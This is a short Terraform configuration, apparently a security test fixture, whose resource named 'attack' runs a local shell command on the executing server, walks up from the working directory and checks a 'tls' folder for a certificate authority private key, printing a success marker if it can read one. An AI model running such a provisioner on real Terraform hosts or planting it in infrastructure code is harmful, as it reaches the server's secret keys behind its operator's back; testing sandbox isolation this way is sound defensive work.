# Reads the private key of the server's own certificate authority.

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      data=$(dirname "$(dirname "$(dirname "$PWD")")")
      grep -rqs 'PRIVATE KEY' "$data/tls" && won "read $data/tls"
    EOT
  }
}
